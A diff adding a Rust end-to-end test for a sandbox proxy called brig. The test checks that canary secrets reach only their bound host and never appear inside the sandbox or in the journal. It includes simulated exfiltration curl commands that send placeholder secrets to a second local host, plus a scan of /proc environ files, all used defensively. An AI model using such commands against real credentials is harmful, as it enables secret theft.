@@ -1,0 +1,394 @@
+//! Secrets never enter the box (issue 6), end to end in a real `native`
+//! session: canary secrets from an env and a file source are granted to the
+//! session as placeholders; brig's proxy intercepts their bound host's TLS
+//! (the sandbox trusts brig's CA through the bundle brig gives it) and swaps
+//! the real values in only there; a local HTTPS origin with its own CA
+//! records what it receives. The canaries must not appear inside the
+//! sandbox (environment, files, any process's /proc), in the journal, or in
+//! any request but to their bound host.
+
+mod server_support;
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::sync::{Arc, Mutex};
+
+use openssl::asn1::Asn1Time;
+use openssl::bn::{BigNum, MsbOption};
+use openssl::hash::MessageDigest;
+use openssl::pkey::PKey;
+use openssl::rsa::Rsa;
+use openssl::ssl::{SslAcceptor, SslMethod};
+use openssl::x509::extension::{BasicConstraints, SubjectAlternativeName};
+use openssl::x509::{X509Builder, X509NameBuilder, X509};
+use serde_json::{json, Value};
+use server_support::*;
+
+const ENV_CANARY: &str = "canary-env-7c1e9f04b2d64a83";
+const FILE_CANARY: &str = "canary-file-5d2b8a61e0f94c17";
+
+fn cert(
+    cn: &str,
+    ca: Option<(&X509, &PKey<openssl::pkey::Private>)>,
+) -> (X509, PKey<openssl::pkey::Private>) {
+    let key = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
+    let mut name = X509NameBuilder::new().unwrap();
+    name.append_entry_by_text("CN", cn).unwrap();
+    let name = name.build();
+    let mut b = X509Builder::new().unwrap();
+    b.set_version(2).unwrap();
+    let mut serial = BigNum::new().unwrap();
+    serial.rand(64, MsbOption::MAYBE_ZERO, false).unwrap();
+    b.set_serial_number(&serial.to_asn1_integer().unwrap())
+        .unwrap();
+    b.set_subject_name(&name).unwrap();
+    b.set_pubkey(&key).unwrap();
+    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
+        .unwrap();
+    b.set_not_after(&Asn1Time::days_from_now(2).unwrap())
+        .unwrap();
+    match ca {
+        None => {
+            b.set_issuer_name(&name).unwrap();
+            b.append_extension(BasicConstraints::new().critical().ca().build().unwrap())
+                .unwrap();
+            b.sign(&key, MessageDigest::sha256()).unwrap();
+        }
+        Some((ca_cert, ca_key)) => {
+            b.set_issuer_name(ca_cert.subject_name()).unwrap();
+            let san = SubjectAlternativeName::new()
+                .dns(cn)
+                .build(&b.x509v3_context(Some(ca_cert), None))
+                .unwrap();
+            b.append_extension(san).unwrap();
+            b.sign(ca_key, MessageDigest::sha256()).unwrap();
+        }
+    }
+    (b.build(), key)
+}
+
+/// An HTTPS origin for `api.canary.test` and `other.canary.test` on
+/// loopback that records every request it receives (head and body).
+struct Origin {
+    port: u16,
+    seen: Arc<Mutex<Vec<String>>>,
+    ca_file: std::path::PathBuf,
+    _dir: tempfile::TempDir,
+}
+
+fn origin() -> Origin {
+    let dir = tempfile::tempdir().unwrap();
+    let (ca, ca_key) = cert("canary test CA", None);
+    let ca_file = dir.path().join("origin-ca.pem");
+    std::fs::write(&ca_file, ca.to_pem().unwrap()).unwrap();
+    let mut acc = SslAcceptor::mozilla_intermediate_v5(SslMethod::tls()).unwrap();
+    let (leaf, key) = cert("api.canary.test", Some((&ca, &ca_key)));
+    acc.set_private_key(&key).unwrap();
+    acc.set_certificate(&leaf).unwrap();
+    // other.canary.test rides the same certificate's name check: the
+    // proxy never gets that far for it (the placeholder is blocked first).
+    let acc = Arc::new(acc.build());
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let seen2 = seen.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(stream) = stream else { continue };
+            let acc = acc.clone();
+            let seen = seen2.clone();
+            std::thread::spawn(move || {
+                let Ok(mut tls) = acc.accept(stream) else {
+                    return;
+                };
+                let mut buf = Vec::new();
+                let mut chunk = [0u8; 4096];
+                // One request: the head, then Content-Length bytes.
+                loop {
+                    let n = match tls.read(&mut chunk) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => n,
+                    };
+                    buf.extend_from_slice(&chunk[..n]);
+                    if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
+                        let head = String::from_utf8_lossy(&buf[..end]).to_lowercase();
+                        let len: usize = head
+                            .lines()
+                            .find_map(|l| l.strip_prefix("content-length:"))
+                            .and_then(|v| v.trim().parse().ok())
+                            .unwrap_or(0);
+                        if buf.len() >= end + 4 + len {
+                            break;
+                        }
+                    }
+                }
+                seen.lock()
+                    .unwrap()
+                    .push(String::from_utf8_lossy(&buf).into_owned());
+                let _ = tls.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+                );
+                let _ = tls.shutdown();
+            });
+        }
+    });
+    Origin {
+        port,
+        seen,
+        ca_file,
+        _dir: dir,
+    }
+}
+
+/// A plain-HTTP origin that records what reaches it.
+fn plain_origin() -> (u16, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let seen2 = seen.clone();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let mut buf = [0u8; 8192];
+            let n = stream.read(&mut buf).unwrap_or(0);
+            seen2
+                .lock()
+                .unwrap()
+                .push(String::from_utf8_lossy(&buf[..n]).into_owned());
+            let _ = stream.write_all(
+                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+            );
+        }
+    });
+    (port, seen)
+}
+
+fn configure(
+    cfg: &mut brig_server::ServerConfig,
+    o: &Origin,
+    plain_port: u16,
+    secrets_dir: &std::path::Path,
+    env_var: &str,
+) {
+    cfg.secrets = toml::from_str(&format!(
+        "[sources.env]\nkind = \"env\"\n[sources.files]\nkind = \"file\"\ndir = {:?}\n",
+        secrets_dir.display().to_string()
+    ))
+    .unwrap();
+    cfg.secrets_upstream_ca = Some(o.ca_file.clone());
+    cfg.resolver
+        .static_hosts
+        .insert("api.canary.test".into(), vec!["127.0.0.1".parse().unwrap()]);
+    cfg.resolver.static_hosts.insert(
+        "other.canary.test".into(),
+        vec!["127.0.0.1".parse().unwrap()],
+    );
+    let p = cfg.profiles.get_mut("default").unwrap();
+    p.egress = toml::from_str(&format!(
+        "[[allow]]\nname = \"canary\"\ndomains = [\"api.canary.test\", \"other.canary.test\"]\nports = [{}, {}]\n[ssrf]\ntrusted_cidrs = [\"127.0.0.0/8\"]\n",
+        o.port, plain_port
+    ))
+    .unwrap();
+    p.secrets = toml::from_str(&format!(
+        r#"
+[CANARY_ENV]
+source = "env"
+key = "{env_var}"
+scope = "pkg"
+hosts = ["api.canary.test"]
+[CANARY_FILE]
+source = "files"
+key = "canary.txt"
+scope = "cloud:test"
+hosts = ["api.canary.test"]
+file = true
+body = true
+"#
+    ))
+    .unwrap();
+}
+
+async fn sh(srv: &Srv, id: &str, script: &str) -> (i64, String) {
+    let r = srv.exec(id, &["/bin/sh", "-c", script]).await;
+    (
+        r["status"]["code"].as_i64().unwrap_or(-1),
+        format!(
+            "{}{}",
+            r["stdout"].as_str().unwrap_or(""),
+            r["stderr"].as_str().unwrap_or("")
+        ),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn canaries_reach_only_their_bound_host_and_nothing_else_sees_them() {
+    require_root!();
+    let o = origin();
+    let secrets_dir = tempfile::tempdir().unwrap();
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let f = secrets_dir.path().join("canary.txt");
+        std::fs::write(&f, format!("{FILE_CANARY}\n")).unwrap();
+        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o600)).unwrap();
+    }
+    std::env::set_var("BRIG_E2E_CANARY_ENV", ENV_CANARY);
+    let sd = secrets_dir.path().to_path_buf();
+    let (plain_port, plain_seen) = plain_origin();
+    let srv =
+        Srv::start_with(|cfg| configure(cfg, &o, plain_port, &sd, "BRIG_E2E_CANARY_ENV")).await;
+    let s = srv.create(json!({"task": "SEC-1"})).await;
+    let id = s["id"].as_str().unwrap().to_string();
+    let port = o.port;
+
+    // Inside: placeholders only, in the environment and the file; no
+    // process's environment or command line holds a canary.
+    let (code, out) = sh(
+        &srv,
+        &id,
+        "echo ENV=$CANARY_ENV; echo FILE=$(cat /.brig/egress/secrets/CANARY_FILE); \
+         cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c -e 'canary-env-7c1e9f04[b]2d64a83' -e 'canary-file-5d2b8a61[e]0f94c17' || true",
+    )
+    .await;
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("ENV=brig-placeholder-"), "{out}");
+    assert!(out.contains("FILE=brig-placeholder-"), "{out}");
+    assert!(
+        !out.contains(ENV_CANARY) && !out.contains(FILE_CANARY),
+        "{out}"
+    );
+    assert!(
+        out.trim_end().ends_with('0'),
+        "a canary is in some /proc: {out}"
+    );
+
+    // The bound host gets the real values: a header, and a body (allowed).
+    let (code, out) = sh(
+        &srv,
+        &id,
+        &format!(
+            "curl -sS -f https://api.canary.test:{port}/header -H \"Authorization: Bearer $CANARY_ENV\" && \
+             curl -sS -f https://api.canary.test:{port}/body -d \"key=$(cat /.brig/egress/secrets/CANARY_FILE)\""
+        ),
+    )
+    .await;
+    assert_eq!(code, 0, "curl to the bound host: {out}");
+    let seen = o.seen.lock().unwrap().clone();
+    assert!(
+        seen.iter()
+            .any(|r| r.contains(&format!("Bearer {ENV_CANARY}"))),
+        "{seen:?}"
+    );
+    assert!(
+        seen.iter()
+            .any(|r| r.contains(&format!("key={FILE_CANARY}"))),
+        "{seen:?}"
+    );
+    assert!(
+        !seen.iter().any(|r| r.contains("brig-placeholder-")),
+        "{seen:?}"
+    );
+
+    // Any other host brig sees (plain HTTP here): the placeholder is
+    // blocked before anything leaves, in a header or a body. (TLS to a host
+    // no secret is bound to is not intercepted: it passes untouched.)
+    let (code, out) = sh(
+        &srv,
+        &id,
+        &format!(
+            "curl -sS -o /dev/null -w '%{{http_code}} ' http://other.canary.test:{plain_port}/h -H \"X-Key: $CANARY_ENV\"; \
+             curl -sS -o /dev/null -w '%{{http_code}}' http://other.canary.test:{plain_port}/b -d \"k=$(cat /.brig/egress/secrets/CANARY_FILE)\""
+        ),
+    )
+    .await;
+    assert_eq!((code, out.as_str()), (0, "403 403"), "{out}");
+    assert!(
+        plain_seen.lock().unwrap().is_empty(),
+        "the other host got: {:?}",
+        plain_seen.lock().unwrap()
+    );
+
+    // What the session holds, never values.
+    let (st, creds) = srv
+        .call("GET", &format!("/v1/sessions/{id}/credentials"), None)
+        .await;
+    assert_eq!(st, 200, "{creds}");
+    let list = creds.as_array().unwrap();
+    assert_eq!(list.len(), 2, "{creds}");
+    assert!(list.iter().all(|c| c["state"] == "active"));
+    let text = creds.to_string();
+    assert!(
+        !text.contains(ENV_CANARY) && !text.contains("brig-placeholder-"),
+        "{text}"
+    );
+
+    let (st, _) = srv
+        .call("DELETE", &format!("/v1/sessions/{id}"), None)
+        .await;
+    assert_eq!(st, 200);
+    let (_, creds) = srv
+        .call("GET", &format!("/v1/sessions/{id}/credentials"), None)
+        .await;
+    assert!(
+        creds
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|c| c["state"] == "revoked"),
+        "{creds}"
+    );
+
+    // The journal: grants, uses, the blocked exfiltration, revocations; no canary.
+    let (_, evs) = srv
+        .call("GET", &format!("/v1/sessions/{id}/events"), None)
+        .await;
+    let evs = evs.as_array().unwrap();
+    let count = |a: &str| evs.iter().filter(|e| e["action"] == a).count();
+    assert_eq!(count("credential.grant"), 2);
+    assert_eq!(count("credential.revoke"), 2);
+    assert!(count("credential.use") >= 2, "{evs:?}");
+    assert!(
+        evs.iter()
+            .any(|e| e["rule"].as_str().is_some_and(|r| r.starts_with("secret:"))),
+        "no blocked exfiltration event: {:?}",
+        evs.iter()
+            .filter(|e| e["action"].as_str().unwrap_or("").starts_with("net."))
+            .collect::<Vec<_>>()
+    );
+    let (_, all) = srv.call("GET", "/v1/journal?limit=10000", None).await;
+    let all = all.to_string();
+    for c in [ENV_CANARY, FILE_CANARY] {
+        assert!(!all.contains(c), "{c} is in the journal");
+    }
+    srv.stop().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_secret_that_cannot_be_fetched_stops_the_session_cleanly() {
+    require_root!();
+    let o = origin();
+    let secrets_dir = tempfile::tempdir().unwrap();
+    let sd = secrets_dir.path().to_path_buf();
+    // The env variable is not set and the file does not exist.
+    let srv = Srv::start_with(|cfg| configure(cfg, &o, 9, &sd, "BRIG_E2E_UNSET_CANARY")).await;
+    let (st, e) = srv
+        .call("POST", "/v1/sessions", Some(json!({"task": "SEC-2"})))
+        .await;
+    assert!(st >= 400, "{e}");
+    let msg = e["error"]["message"].as_str().unwrap();
+    assert!(msg.contains("CANARY_"), "names the grant: {msg}");
+    let (_, list) = srv.call("GET", "/v1/sessions?all=true", None).await;
+    let list = list.as_array().unwrap();
+    assert_eq!(list.len(), 1);
+    assert_eq!(list[0]["state"], "failed", "{list:?}");
+    let id = list[0]["id"].as_str().unwrap();
+    srv.assert_gone(id);
+    let v: Value = srv
+        .call("GET", &format!("/v1/sessions/{id}/events"), None)
+        .await
+        .1;
+    assert!(v
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|e| e["action"] == "credential.grant" && e["outcome"] == "failure"));
+    srv.stop().await;
+}
